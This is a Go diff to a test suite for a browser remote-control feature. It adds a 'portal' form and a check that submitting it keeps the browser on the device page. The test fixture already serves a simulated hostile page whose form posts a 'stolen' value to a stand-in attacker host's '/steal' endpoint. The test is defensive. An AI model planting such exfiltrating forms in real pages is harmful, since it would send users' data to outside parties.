@@ -99,6 +99,7 @@ func hostileDevice(evil string) http.Handler {
 	})
 	mux.HandleFunc("GET /form", func(w http.ResponseWriter, r *http.Request) {
 		page(w, `<form method="post" action="`+evil+`/steal"><input name="x" value="stolen"><button id="out">Out</button></form>`+
+			`<form method="post" action="/"><button id="portal">Portal</button></form>`+
 			`<form method="post" action="echo"><input name="x" value="kept"><button id="in">In</button></form><p id="p">form</p>`)
 	})
 	mux.HandleFunc("POST /echo", func(w http.ResponseWriter, r *http.Request) {
@@ -209,6 +210,10 @@ func TestBrowserRemoteControlHeadersStayWithTheDevice(t *testing.T) {
 	// Submitted from the test's side: the page's own scripts do not run.
 	chromeEval[bool](c, `(document.getElementById('out').click(), true)`)
 	stays("form to another site", prefix+"form")
+	// Nor to the portal outside the session.
+	c.open(prefix + "form")
+	chromeEval[bool](c, `(document.getElementById('portal').click(), true)`)
+	stays("form to the portal", prefix+"form")
 	c.open(prefix + "form")
 	if st := c.clickAndLoad("#in"); st != 200 {
 		t.Fatalf("form to the device: %d", st)
